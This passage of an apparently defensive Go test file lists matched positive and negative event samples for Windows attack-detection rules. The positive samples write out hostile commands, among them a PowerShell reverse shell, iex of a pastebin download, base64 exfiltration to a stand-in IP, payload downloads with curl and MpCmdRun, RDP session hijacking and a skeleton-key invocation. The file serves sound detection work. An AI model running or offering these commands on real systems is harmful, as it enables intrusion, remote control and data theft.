		id:  "cd031fed-09a8-405d-9cb8-f4f6f442f2ca", // Password Policy Read From a Command Line
		pos: bProc(imgNet, `net accounts /domain`, imgCmd),
		neg: bProc(imgNet, `net accounts /maxpwage:90`, imgCmd),
	},
	{
		id:  "21a1aebf-82da-4722-a850-94d60d3dd6c5", // Password Policy Read From PowerShell
		pos: bScript(`Get-ADDefaultDomainPasswordPolicy | Select-Object LockoutThreshold, MinPasswordLength`),
		neg: bScript(`Get-ADUser -Identity bob -Properties PasswordLastSet`),
	},
	{
		id:  "d554a965-133b-43b7-a11e-9c0a27c9b23e", // Browser History or Bookmarks Read by a Non-Browser
		pos: bProc(imgCmd, `cmd.exe /c copy "C:\Users\bob\AppData\Local\Google\Chrome\User Data\Default\History" C:\Users\Public\h.db`, imgPS),
		neg: bProc(imgChrome, `"C:\Program Files\Google\Chrome\Application\chrome.exe" --profile-directory=Default`, imgExpl),
	},
	{
		id:  "e4dd7869-21ff-4592-ae42-10248c45bb0d", // Browser History or Bookmarks Read From PowerShell
		pos: bScript(`Get-Content "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Bookmarks" | ConvertFrom-Json`),
		neg: bScript(`Get-Content "$env:LOCALAPPDATA\Google\Chrome\User Data\Local State" | Measure-Object`),
	},
	{
		id:  "bcf47d26-4962-4022-9ed5-4ce1af8cbb50", // Virtual Machine Artefacts Checked From PowerShell
		pos: bScript(`$m = (Get-WmiObject Win32_ComputerSystem).Model; if ($m -match "VirtualBox|VMware") { exit }`),
		neg: bScript(`(Get-WmiObject Win32_ComputerSystem).TotalPhysicalMemory / 1GB`),
	},
	{
		id:  "d83636fa-f639-4251-99d5-77a192cdb759", // Virtual Machines on a Hypervisor Listed
		pos: bProc(imgPS, `powershell.exe -c "Get-VM | Select-Object Name, State"`, imgCmd),
		neg: bProc(imgPS, `powershell.exe -c "Get-Service vmms"`, imgCmd),
	},
	{
		id:  "60d3a0fe-5f3f-4a52-b837-1131b5a94765", // System Language or Keyboard Layout Queried
		pos: bProc(imgReg, `reg query HKLM\SYSTEM\CurrentControlSet\Control\Nls\Language /v InstallLanguage`, imgCmd),
		neg: bProc(imgReg, `reg query HKLM\SYSTEM\CurrentControlSet\Control\ComputerName\ComputerName`, imgCmd),
	},
	{
		id:  "b797cd8a-0bff-4936-847c-c33fa4abf26a", // Geographic Location of the Host Queried
		pos: bProc(imgPS, `powershell.exe -c "Get-WinHomeLocation"`, imgCmd),
		neg: bProc(imgPS, `powershell.exe -c "Get-TimeZone"`, imgCmd),
	},
	{
		id:  "d867c5ae-3a5a-4801-a37a-6b9f3684eaaa", // Group Policy Settings Enumerated
		pos: bProc(`C:\Windows\System32\gpresult.exe`, `gpresult /z`, imgCmd),
		neg: bProc(`C:\Windows\System32\gpupdate.exe`, `gpupdate /force`, imgCmd),
	},
	{
		id:  "2ffad6fc-79bf-4d49-bc00-759068f7b39a", // Group Policy Objects Enumerated From PowerShell
		pos: bScript(`Get-DomainGPO | Select-Object displayname, gpcfilesyspath`),
		neg: bScript(`Invoke-GPUpdate -Computer ws01 -Force`),
	},
	{
		id:  "93cee332-40e5-4db2-90a3-e6f31ca29159", // Installed Drivers Listed
		pos: bProc(`C:\Windows\System32\driverquery.exe`, `driverquery /v /fo csv`, imgCmd),
		neg: bProc(`C:\Windows\System32\pnputil.exe`, `pnputil /add-driver C:\Drivers\net.inf /install`, imgCmd),
	},
	{
		id:  "7620962e-19eb-4541-9dd9-4cad4ac6d68a", // Security-Relevant Event Logs Read From a Command Line
		pos: bProc(`C:\Windows\System32\wevtutil.exe`, `wevtutil qe Security /c:50 /rd:true /f:text /q:"*[System[(EventID=4624)]]"`, imgCmd),
		neg: bProc(`C:\Windows\System32\wevtutil.exe`, `wevtutil qe Application /c:5 /rd:true /f:text`, imgCmd),
	},
	{
		id:  "3df287dc-3c4a-49b2-9c82-223a841bde57", // Drives and Volumes Enumerated From a Command Line
		pos: bProc(`C:\Windows\System32\fsutil.exe`, `fsutil fsinfo drives`, imgCmd),
		neg: bProc(`C:\Windows\System32\fsutil.exe`, `fsutil file createnew C:\Temp\blank.bin 1024`, imgCmd),
	},
	// lateral movement
	{
		id:  "d33a60d6-386b-4a75-a71e-c91702dcad0d", // Remote Desktop Enabled Through the Registry
		pos: bReg(imgReg, `HKLM\System\CurrentControlSet\Control\Terminal Server\fDenyTSConnections`, `DWORD (0x00000000)`),
		neg: bReg(imgReg, `HKLM\System\CurrentControlSet\Control\Terminal Server\fDenyTSConnections`, `DWORD (0x00000001)`),
	},
	{
		id:  "baba5d8d-a19f-45c6-8ea2-79f6410d4830", // Remote Desktop Enabled From the Command Line
		pos: bProc(imgReg, `reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f`, imgCmd),
		neg: bProc(imgReg, `reg query "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections`, imgCmd),
	},
	{
		id:  "186ff98b-514d-4fbc-a78d-3c8b9ac3798a", // Remote Desktop Logon
		pos: bSec(4624, map[string]string{"LogonType": "10", "IpAddress": "10.0.0.31", "TargetUserName": "alice"}),
		neg: bSec(4624, map[string]string{"LogonType": "3", "IpAddress": "10.0.0.31", "TargetUserName": "alice"}),
	},
	{
		id:  "d683e988-1da3-4814-9a43-1efc6794c23f", // VNC Server Started
		pos: bProc(`C:\Program Files\TightVNC\tvnserver.exe`, `"C:\Program Files\TightVNC\tvnserver.exe" -service`, `C:\Windows\System32\services.exe`),
		neg: bProc(`C:\Program Files\TightVNC\tvnviewer.exe`, `"C:\Program Files\TightVNC\tvnviewer.exe" 10.0.0.7`, imgExpl),
	},
	{
		id:  "ae071a49-d424-4abf-a0f1-e92251a521f8", // Inbound VNC Connection Accepted
		pos: bSample{chSysmon, 3, map[string]string{"Image": `C:\Program Files\TightVNC\tvnserver.exe`, "Initiated": "false", "DestinationPort": "5900", "SourceIp": "10.0.0.66", "DestinationIp": "10.0.0.20"}},
		neg: bSample{chSysmon, 3, map[string]string{"Image": `C:\Program Files\TightVNC\tvnviewer.exe`, "Initiated": "true", "DestinationPort": "5900", "SourceIp": "10.0.0.20", "DestinationIp": "10.0.0.7"}},
	},
	{
		id:  "68caef2e-e4ea-4060-9e87-3fcdd47c06b1", // RDP Session Hijacked With tscon
		pos: bProc(`C:\Windows\System32\tscon.exe`, `tscon.exe 2 /dest:rdp-tcp#5`, imgCmd),
		neg: bProc(`C:\Windows\System32\query.exe`, `query session`, imgCmd),
	},
	{
		id:  "66fded56-ce84-4d13-b2d7-71d694985813", // Service Created to Run tscon
		pos: bSample{chSystem, 7045, map[string]string{"ServiceName": "sesshijack", "ImagePath": `cmd.exe /k tscon 2 /dest:rdp-tcp#5`}},
		neg: bSample{chSystem, 7045, map[string]string{"ServiceName": "Contoso Agent", "ImagePath": `"C:\Program Files\Contoso\agent.exe"`}},
	},
	{
		id: "0d4aaec2-6c1f-4225-9d2c-fe43418f6657", // Executable or Shortcut Written to a Network Share
		pos: bSec(5145, map[string]string{"ShareName": `\\*\Public`, "RelativeTargetName": `Tools\Setup.exe`, "AccessList": "%%4416 %%4417 %%4418",
			"SubjectUserName": "mallory", "IpAddress": "10.0.0.66"}),
		neg: bSec(5145, map[string]string{"ShareName": `\\*\Public`, "RelativeTargetName": `Tools\Setup.exe`, "AccessList": "%%1537 %%1541 %%4416",
			"SubjectUserName": "bob", "IpAddress": "10.0.0.31"}),
	},
	{
		id:  "3b876be7-64ea-41fd-84b7-a1dbfd783f77", // Autorun File Written to a Drive Root
		pos: bFile(`C:\Users\Public\worm.exe`, `E:\autorun.inf`),
		neg: bFile(`C:\Program Files\7-Zip\7zG.exe`, `E:\Setup\autorun.inf`),
	},
	// command and control
	{
		id:  "f86ac341-d64e-43cc-a7ab-882cc6e2274a", // DNS TXT Record Queried From a Shell
		pos: bProc(`C:\Windows\System32\nslookup.exe`, `nslookup -q=txt stage1.example.org`, imgCmd),
		neg: bProc(`C:\Windows\System32\nslookup.exe`, `nslookup fileserver01.corp.local`, imgCmd),
	},
	{
		id:  "5ef4a7b1-07ca-49f0-a8a5-f2d4f063f327", // DNS TXT Records Read in a PowerShell Script
		pos: bScript(`$c = (Resolve-DnsName -Name cmd.example.org -Type TXT).Strings -join ""; iex $c`),
		neg: bScript(`Resolve-DnsName -Name fileserver01.corp.local -Type A`),
	},
	{
		id:  "7401c0b0-7889-4ef2-83df-327680df8d6e", // Scripted FTP Session Started
		pos: bProc(`C:\Windows\System32\ftp.exe`, `ftp.exe -i -s:C:\Users\Public\ftp.txt`, imgCmd),
		neg: bProc(`C:\Windows\System32\ftp.exe`, `ftp.exe ftp.corp.local`, imgCmd),
	},
	{
		id:  "5215eaf8-58a4-4382-9474-a4819e08f6f2", // Mail Server Port Contacted by a Shell or Script Host
		pos: bNet(imgPS, "203.0.113.25", "587", "true"),
		neg: bNet(`C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, "203.0.113.25", "587", "true"),
	},
	{
		id:  "ca26711d-ee2c-49f2-bad8-b4ad84d60220", // Port Forwarding Added With netsh portproxy
		pos: bProc(imgNetsh, `netsh interface portproxy add v4tov4 listenport=4444 listenaddress=0.0.0.0 connectport=3389 connectaddress=10.0.0.9`, imgCmd),
		neg: bProc(imgNetsh, `netsh interface portproxy delete v4tov4 listenport=4444 listenaddress=0.0.0.0`, imgCmd),
	},
	{
		id:  "1839b29e-aac3-4613-866f-7389c1a58fc5", // Port Proxy Rule Stored in the Registry
		pos: bReg(imgSvchost, `HKLM\System\CurrentControlSet\Services\PortProxy\v4tov4\tcp\0.0.0.0/4444`, `10.0.0.9/3389`),
		neg: bReg(imgSvchost, `HKLM\System\CurrentControlSet\Services\iphlpsvc\Parameters\Start`, `DWORD (0x00000002)`),
	},
	{
		id:  "7d802a71-20b6-40b5-ab1a-91f30034678e", // Tor Client Running or Used
		pos: bProc(`C:\Users\bob\AppData\Roaming\tor\tor.exe`, `tor.exe --SocksPort 9050`, imgCmd),
		neg: bProc(imgChrome, `"C:\Program Files\Google\Chrome\Application\chrome.exe" https://www.torproject.org/`, imgExpl),
	},
	{
		id:  "9cd53f3f-82d3-444a-9c44-6e40e15a7fca", // Process Connects to a Tor SOCKS Port
		pos: bNet(`C:\Users\Public\implant.exe`, "127.0.0.1", "9050", "true"),
		neg: bNet(`C:\Users\bob\Desktop\Tor Browser\Browser\firefox.exe`, "127.0.0.1", "9150", "true"),
	},
	{
		id:  "8cd44f70-c6f2-49b8-9118-90d4b77e84cf", // PowerShell Reverse Shell Over a Raw TCP or UDP Socket
		pos: bScript(`$c = New-Object System.Net.Sockets.TCPClient("203.0.113.5",4444); $s = $c.GetStream(); while(($i = $s.Read($b, 0, $b.Length)) -ne 0){ $o = (iex $d 2>&1 | Out-String) }`),
		neg: bScript(`$c = New-Object System.Net.Sockets.TCPClient("mail.corp.local",25); $c.Connected; $c.Close()`),
	},
	{
		id:  "8ce16416-3a98-426a-867f-c5ec7db74632", // Commands Carried Over ICMP From PowerShell
		pos: bScript(`$p = New-Object System.Net.NetworkInformation.Ping; $r = $p.Send("203.0.113.5", 60000, $buf, $opt); $cmd = [Text.Encoding]::ASCII.GetString($r.Buffer)`),
		neg: bScript(`$p = New-Object System.Net.NetworkInformation.Ping; $p.Send("fileserver01").Status`),
	},
	{
		id:  "d2ad45cc-38cf-4245-a6cc-3721cf5a2762", // Paste Site, Chat Bot API or Webhook Resolved by a Non-Browser
		pos: bDNS(`C:\Users\Public\implant.exe`, `api.telegram.org`),
		neg: bDNS(`C:\Users\bob\AppData\Roaming\Telegram Desktop\Telegram.exe`, `api.telegram.org`),
	},
	{
		id:  "3b05b470-f9f2-446a-8c48-a66e5c559b3d", // Command Line Talks to a Paste Site or Chat Bot API
		pos: bProc(imgPS, `powershell.exe -c "iex (iwr -UseBasicParsing https://pastebin.com/raw/Xk2pQ9aZ)"`, imgCmd),
		neg: bProc(imgChrome, `"C:\Program Files\Google\Chrome\Application\chrome.exe" https://pastebin.com/`, imgExpl),
	},
	{
		id:  "cd0681e0-3690-4cb0-95db-4f25a1959f3f", // Tunnelling Tool Started
		pos: bProc(`C:\Users\Public\ngrok.exe`, `ngrok.exe tcp 3389`, imgCmd),
		neg: bProc(`C:\Windows\System32\OpenSSH\ssh.exe`, `ssh.exe alice@build01.corp.local`, imgCmd),
	},
	{
		id:  "7e1f0950-2810-4516-841c-03dfcacf54ed", // Tunnelling Service Resolved
		pos: bDNS(`C:\Users\Public\cloudflared.exe`, `region1.v2.argotunnel.com`),
		neg: bDNS(`C:\Users\Public\cloudflared.exe`, `update.argotunnel.example.com`),
	},
	{
		id:  "771d18e2-d02a-47fc-ac2e-c5a5dfd340ad", // Remote Desktop Software Started
		pos: bProc(`C:\Users\bob\Downloads\AnyDesk.exe`, `"C:\Users\bob\Downloads\AnyDesk.exe" --install "C:\ProgramData\AnyDesk" --start-with-win --silent`, imgCmd),
		neg: bProc(`C:\Windows\System32\mstsc.exe`, `mstsc.exe /v:ts01.corp.local`, imgExpl),
	},
	{
		id:  "3ee6f5dc-ba9f-4257-85ab-aff1a3be8ed0", // Remote Desktop Service Relay Resolved
		pos: bDNS(`C:\ProgramData\AnyDesk\AnyDesk.exe`, `relay-9b6827f2.net.anydesk.com`),
		neg: bDNS(imgChrome, `download.anydesk.com`),
	},
	{
		id:  "42cd38c4-3f97-4a1f-ac34-b48335c392db", // Base64-Encoded Data Sent in a Web Request From PowerShell
		pos: bScript(`$d = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes((whoami))); Invoke-WebRequest -Uri "https://203.0.113.5/c?d=$d" -Method POST`),
		neg: bScript(`Invoke-RestMethod -Uri https://api.corp.local/status -Method GET`),
	},
	{
		id:  "6a142595-ea69-4659-8fd3-9e2f16aa0984", // Dynamic DNS Domain Resolved by a Non-Browser
		pos: bDNS(`C:\Users\Public\implant.exe`, `c2-node.duckdns.org`),
		neg: bDNS(`C:\Users\Public\implant.exe`, `www.duckduckgo.com`),
	},
	{
		id:  "329d0482-7a5f-40db-91ff-0411becec575", // PowerShell Wraps a Raw Socket in TLS
		pos: bScript(`$t = New-Object Net.Sockets.TcpClient("203.0.113.5", 443); $s = New-Object Net.Security.SslStream($t.GetStream(), $false, ({$true})); $s.AuthenticateAsClient("x")`),
		neg: bScript(`$t = New-Object Net.Sockets.TcpClient("web01", 443); $t.Close()`),
	},
	// initial access
	{
		id:  "f200dbf9-811a-4824-a372-6ac6d425b29d", // Mail Attachment Opened From Outlook's Temporary Folder Runs Code
		pos: bProc(`C:\Windows\System32\wscript.exe`, `"C:\Windows\System32\WScript.exe" "C:\Users\bob\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q8X2ZK1L\invoice.js"`, `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`),
		neg: bProc(`C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, `"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "C:\Users\bob\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q8X2ZK1L\budget.xlsx"`, `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`),
	},
	{
		id:  "d05593fa-82b4-427b-b5f9-b8c48f501a57", // Outlook Starts a Script Host, Shell or LOLBin
		pos: bProc(`C:\Windows\System32\mshta.exe`, `mshta.exe C:\Users\bob\AppData\Local\Temp\update.hta`, `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`),
		neg: bProc(`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\bob\Documents\letter.docx"`, `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`),
	},
	{
		id:  "5d02520f-bb43-4054-9c9b-ea8a86fe4caf", // Web Browser Starts a Script Host or Shell
		pos: bProc(`C:\Windows\System32\mshta.exe`, `mshta.exe http://203.0.113.5/a.hta`, imgChrome),
		neg: bProc(imgCmd, `C:\Windows\system32\cmd.exe /d /c "C:\Program Files\KeePassXC\keepassxc-proxy.exe" chrome-extension://oboonakemofpalcgghocfoadofidjkkk/ --parent-window=0`, imgChrome),
	},
	{
		id: "30cd3727-bd18-4b36-88ab-5cf14c859fd2", // Risky File Downloaded From a Webmail Page
		pos: bSample{chSysmon, 15, map[string]string{"Image": imgChrome, "TargetFilename": `C:\Users\bob\Downloads\invoice.js:Zone.Identifier`,
			"Contents": "[ZoneTransfer]  ZoneId=3  ReferrerUrl=https://outlook.office.com/  HostUrl=https://attachments.office.net/owa/bob/service.svc/s/GetFileAttachment"}},
		neg: bSample{chSysmon, 15, map[string]string{"Image": imgChrome, "TargetFilename": `C:\Users\bob\Downloads\report.pdf:Zone.Identifier`,
			"Contents": "[ZoneTransfer]  ZoneId=3  ReferrerUrl=https://outlook.office.com/  HostUrl=https://attachments.office.net/owa/bob/service.svc/s/GetFileAttachment"}},
	},
	{
		id:  "a0da1c42-6a03-42dc-8076-6f20ddd8a5b6", // Web or Application Server Starts a Shell or Reconnaissance Tool
		pos: bProc(`C:\Windows\System32\whoami.exe`, `whoami`, `C:\Windows\System32\inetsrv\w3wp.exe`),
		neg: bProc(`C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe`, `csc.exe /noconfig @"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\root\x.cmdline"`, `C:\Windows\System32\inetsrv\w3wp.exe`),
	},
	{
		id:  "322dafe3-bb4a-4e96-bae8-c2229b78ab7b", // Remote Desktop Logon From a Public Address
		pos: bSec(4624, map[string]string{"LogonType": "10", "IpAddress": "198.51.100.23", "TargetUserName": "administrator"}),
		neg: bSec(4624, map[string]string{"LogonType": "10", "IpAddress": "192.168.10.5", "TargetUserName": "alice"}),
	},
	{
		id:  "97e2ccb4-5b27-4db6-8d76-3fe00fee871c", // Chat or Collaboration App Starts a Script Host or Shell
		pos: bProc(`C:\Windows\System32\wscript.exe`, `"C:\Windows\System32\WScript.exe" "C:\Users\bob\Downloads\Telegram Desktop\photo.vbs"`, `C:\Users\bob\AppData\Roaming\Telegram Desktop\Telegram.exe`),
		neg: bProc(`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" "C:\Users\bob\Downloads\notes.docx"`, `C:\Users\bob\AppData\Local\Microsoft\Teams\current\Teams.exe`),
	},
}

var samplesB3 = []samplePair{
	{
		id:  "88ca1e14-a4ba-4248-a587-2d7e0df8a29b", // Print Spooler Loads an Unsigned DLL From the Driver Store
		pos: bSample{chSysmon, 7, map[string]string{"Image": `C:\Windows\System32\spoolsv.exe`, "ImageLoaded": `C:\Windows\System32\spool\drivers\x64\3\New\nightmare.dll`, "Signed": "false"}},
		neg: bSample{chSysmon, 7, map[string]string{"Image": `C:\Windows\System32\spoolsv.exe`, "ImageLoaded": `C:\Windows\System32\spool\drivers\x64\3\PrintConfig.dll`, "Signed": "true"}},
	},
	{
		id:  "979ce63d-cfc8-4212-9617-10815b2d8472", // Computer Account Changed by an Anonymous Logon
		pos: bSec(4742, map[string]string{"SubjectUserName": "ANONYMOUS LOGON", "TargetUserName": "DC01$", "PasswordLastSet": "12/2/2026 12:00:00 PM"}),
		neg: bSec(4742, map[string]string{"SubjectUserName": "DC01$", "TargetUserName": "DC01$", "PasswordLastSet": "12/2/2026 12:00:00 PM"}),
	},
	{
		id: "25f202a6-b928-4823-8efa-a4587fca7b4a", // Script Written to the NETLOGON or SYSVOL Share
		pos: bSec(5145, map[string]string{"ShareName": `\\*\NETLOGON`, "RelativeTargetName": `logon.bat`, "AccessList": "%%1537 %%4417",
			"SubjectUserName": "mallory", "IpAddress": "10.0.0.66"}),
		neg: bSec(5145, map[string]string{"ShareName": `\\*\NETLOGON`, "RelativeTargetName": `logon.bat`, "AccessList": "%%1541 %%4416",
			"SubjectUserName": "bob", "IpAddress": "10.0.0.31"}),
	},
	{
		id:  "5fdea99b-25cc-4fcd-b832-ef9fb6d5431e", // Python Startup Hook File Created
		pos: bFile(imgPS, `C:\Users\bob\AppData\Roaming\Python\Python311\site-packages\usercustomize.py`),
		neg: bFile(`C:\Python311\python.exe`, `C:\Python311\Lib\site-packages\requests\customize.py`),
	},
	{
		id:  "fd6afe4c-dd58-4237-9d89-b46362995576", // VS Code Extension Installed From a Local Package File
		pos: bProc(`C:\Users\bob\AppData\Local\Programs\Microsoft VS Code\Code.exe`, `"C:\Users\bob\AppData\Local\Programs\Microsoft VS Code\Code.exe" --install-extension C:\Users\Public\helper-1.0.0.vsix`, imgCmd),
		neg: bProc(`C:\Users\bob\AppData\Local\Programs\Microsoft VS Code\Code.exe`, `"C:\Users\bob\AppData\Local\Programs\Microsoft VS Code\Code.exe" --install-extension ms-python.python`, imgCmd),
	},
	{
		id:  "51004a84-7438-4a05-8c5b-e84f821ddc05", // Domain Controller Authentication Patched (Skeleton Key)
		pos: bProc(`C:\Users\Public\m.exe`, `m.exe "privilege::debug" "misc::skeleton" exit`, imgCmd),
		neg: bProc(`C:\Users\Public\m.exe`, `m.exe "privilege::debug" exit`, imgCmd),
	},
	{
		id:  "a0adb1dd-5eb2-4b73-ab6e-1d7b1d0736d0", // VS Code Remote Tunnel Started
		pos: bProc(`C:\Users\Public\code.exe`, `code.exe tunnel --accept-server-license-terms --name ws01`, imgCmd),
		neg: bProc(`C:\Users\bob\AppData\Local\Programs\Microsoft VS Code\Code.exe`, `"C:\Users\bob\AppData\Local\Programs\Microsoft VS Code\Code.exe" C:\src\project`, imgExpl),
	},
	{
		id:  "95a0469b-8d1e-4435-b41a-23e56c51d490", // Dev Tunnel Relay Resolved
		pos: bDNS(`C:\Users\Public\code.exe`, `global.rel.tunnels.api.visualstudio.com`),
		neg: bDNS(`C:\Users\bob\AppData\Local\Programs\Microsoft VS Code\Code.exe`, `marketplace.visualstudio.com`),
	},
	{
		id:  "463fdd88-7b24-4226-afd2-aa2f54db8610", // MQTT Connection From a Script Host or User-Folder Program
		pos: bNet(imgPS, "203.0.113.80", "8883", "true"),
		neg: bNet(`C:\Program Files\Contoso\IoTGateway\gateway.exe`, "203.0.113.80", "8883", "true"),
	},
	{
		id:  "5da9e98d-0b5d-42e0-9e79-ce95c34dc081", // Execution Delayed With a Long Loopback Ping or Timeout
		pos: bProc(`C:\Windows\System32\PING.EXE`, `ping 127.0.0.1 -n 60`, imgCmd),
		neg: bProc(`C:\Windows\System32\PING.EXE`, `ping -n 4 127.0.0.1`, imgCmd),
	},
	{
		id:  "8562e0cc-67e7-40d9-ad8b-19fef601fcb3", // Backup Software Looked Up From a Command Line
		pos: bProc(imgPS, `powershell.exe -c "Get-Service | Where-Object { $_.DisplayName -like '*Veeam*' }"`, imgCmd),
		neg: bProc(imgPS, `powershell.exe -c "Get-Service wuauserv"`, imgCmd),
	},
}

const imgWmic = `C:\Windows\System32\wbem\WMIC.exe`

var samplesB4 = []samplePair{
	{
		id:  "c7d81b7b-45cd-444e-bdd7-462c5639ae94", // Accessibility Program Replaced or Linked From the Command Line
		pos: bProc(imgCmd, `cmd /c "mklink C:\Windows\System32\osk.exe C:\Windows\System32\cmd.exe"`, imgCmd),
		neg: bProc(`C:\Windows\System32\osk.exe`, `"C:\Windows\System32\osk.exe"`, `C:\Windows\System32\utilman.exe`),
	},
	{
		id:  "9a1c138d-cbb9-4c94-b99d-c622c13b38d8", // COM Class Redirected With TreatAs
		pos: bReg(imgReg, hkuUser+`_Classes\CLSID\{97D47D56-3777-49FB-8E8F-90D7E30E1A1E}\TreatAs\(Default)`, `{00000001-0000-0000-0000-0000FEEDACDC}`),
		neg: bReg(imgMsiexec, `HKLM\SOFTWARE\Classes\CLSID\{0002DF01-0000-0000-C000-000000000046}\TreatAs\(Default)`, `{0002DF02-0000-0000-C000-000000000046}`),
	},
	{
		id:  "9f7c8518-ed5d-4b25-9b63-a84c70fb3a1c", // Shim Database File Written to the AppPatch Custom Folder
		pos: bFile(`C:\Windows\System32\sdbinst.exe`, `C:\Windows\apppatch\CustomSDB\{e3b2d1c0-0000-4000-8000-000000000001}.sdb`),
		neg: bFile(`C:\Windows\System32\TiWorker.exe`, `C:\Windows\apppatch\sysmain.sdb`),
	},
	{
		id:  "7d7fca9c-f80c-42b5-89f2-ec908a3db665", // Startup Folder Location Redirected
		pos: bReg(imgPS, `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\User Shell Folders\Common Startup`, `C:\Users\Public\Libraries\run`),
		neg: bReg(imgExpl, hkuUser+`\Software\Microsoft\Windows\CurrentVersion\Explorer\User Shell Folders\Startup`, `%USERPROFILE%\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup`),
	},
	{
		id:  "bad81625-236f-4abc-acde-2b4accf6fb02", // Startup Folder Location Changed From the Command Line
		pos: bProc(imgReg, `reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\User Shell Folders" /v "Common Startup" /t REG_SZ /d C:\Users\Public\run /f`, imgPS),
		neg: bProc(imgReg, `reg query "HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\User Shell Folders" /v Startup`, imgCmd),
	},
	{
		id:  "89a0a41b-2aa4-4ac5-b6e9-1d69fd26130e", // Remote Desktop Listening Port Changed
		pos: bReg(imgReg, `HKLM\System\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp\PortNumber`, `DWORD (0x00001189)`),
		neg: bReg(imgSvchost, `HKLM\System\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp\PortNumber`, `DWORD (0x00000d3d)`),
	},
	{
		id:  "e9a9ba74-e42d-4d94-87e2-587da382d323", // PsExec-Style Remote Execution Launched From This Host
		pos: bProc(`C:\Tools\PsExec64.exe`, `PsExec64.exe \\fs01 -accepteula -s cmd.exe /c whoami`, imgCmd),
		neg: bProc(`C:\Tools\PsExec64.exe`, `PsExec64.exe -accepteula -s -i cmd.exe`, imgCmd),
	},
	{
		id:  "ff4fceba-09be-4bc3-8f9b-51a8a5097b79", // PsExec EULA Accepted
		pos: bReg(`C:\Tools\PsExec64.exe`, hkuUser+`\Software\Sysinternals\PsExec\EulaAccepted`, `DWORD (0x00000001)`),
		neg: bReg(`C:\Tools\procexp64.exe`, hkuUser+`\Software\Sysinternals\Process Explorer\EulaAccepted`, `DWORD (0x00000001)`),
	},
	{
		id:  "6e168f3e-319a-4fd9-a3d2-85aa5f5e8407", // System Details Read With WMIC
		pos: bProc(imgWmic, `"C:\WINDOWS\System32\Wbem\WMIC.exe" computersystem list full /format:csv`, imgPS),
		neg: bProc(imgWmic, `wmic computersystem where name="%computername%" call rename name="WS02"`, imgCmd),
	},
	{
		id:  "86d87de6-5f5a-4840-83b3-ace50ca38156", // Processes Listed With WMIC
		pos: bProc(imgWmic, `wmic process get caption,executablepath,commandline /format:csv`, imgCmd),
		neg: bProc(imgWmic, `wmic process call create "notepad.exe"`, imgCmd),
	},
	{
		id:  "f3f350b7-c92e-45b8-90f4-18bf68335b29", // Local Accounts Listed With WMIC
		pos: bProc(imgWmic, `wmic useraccount get name,sid,disabled`, imgCmd),
		neg: bProc(imgWmic, `wmic useraccount where name="bob" set PasswordExpires=false`, imgCmd),
	},
	{
		id:  "85c79f58-f319-4e62-973a-ed7c5e74b1a7", // Groups Listed With WMIC
		pos: bProc(imgWmic, `"C:\WINDOWS\System32\Wbem\WMIC.exe" group list full /format:csv`, imgPS),
		neg: bProc(imgWmic, `wmic nicconfig get ipaddress`, imgCmd),
	},
	{
		id:  "71c1911f-c00a-432b-b48c-197d3450dd36", // Services Listed With WMIC
		pos: bProc(imgWmic, `"C:\WINDOWS\System32\Wbem\WMIC.exe" service get name,displayname,pathname,startmode`, imgPS),
		neg: bProc(imgWmic, `wmic service where name="Spooler" call StopService`, imgCmd),
	},
	{
		id:  "b2eb2171-fcb3-4892-b376-92579d39252d", // Installed Software Listed With WMIC
		pos: bProc(imgWmic, `wmic product get name,version`, imgCmd),
		neg: bProc(imgWmic, `wmic product where name="Contoso Agent" call uninstall /nointeractive`, imgCmd),
	},
}

var samplesB5 = []samplePair{
	{
		id:  "befceae1-6674-4d5e-9dae-96b5bb72233c", // Per-User windir or systemroot Environment Variable Overridden
		pos: bReg(imgReg, hkuUser+`\Environment\windir`, `cmd /c start powershell&REM`),
		neg: bReg(imgExpl, hkuUser+`\Environment\TEMP`, `%USERPROFILE%\AppData\Local\Temp`),
	},
	{
		id:  "223a109a-fb34-4c60-bdea-751c2517028e", // curl Saves a Download to a Writable Folder or From an IP Address
		pos: bProc(`C:\Windows\System32\curl.exe`, `curl -k https://203.0.113.5/t/a.dll -o c:\users\public\music\a.dll`, imgCmd),
		neg: bProc(`C:\Windows\System32\curl.exe`, `curl -s https://api.github.com/repos/contoso/tool/releases/latest`, imgCmd),
	},
	{
		id:  "98a4527f-36ad-471c-9b51-dd11abc3d18c", // Windows Utility Abused to Download a File
		pos: bProc(`C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2207.7-0\MpCmdRun.exe`, `MpCmdRun.exe -DownloadFile -url https://203.0.113.5/p.exe -path C:\Users\Public\p.exe`, imgCmd),
		neg: bProc(`C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2207.7-0\MpCmdRun.exe`, `MpCmdRun.exe -SignatureUpdate`, imgSvchost),
	},
	{
		id:  "8eb260d5-ffbf-4e23-8bd9-6dba9fdf115e", // Ping Sweep From a Command Loop
		pos: bProc(imgCmd, `cmd.exe /c for /L %i in (1,1,254) do @ping -n 1 -w 100 10.0.0.%i | find "TTL="`, imgPS),
		neg: bProc(imgCmd, `cmd.exe /c ping -n 1 fileserver01`, imgExpl),
	},
	{
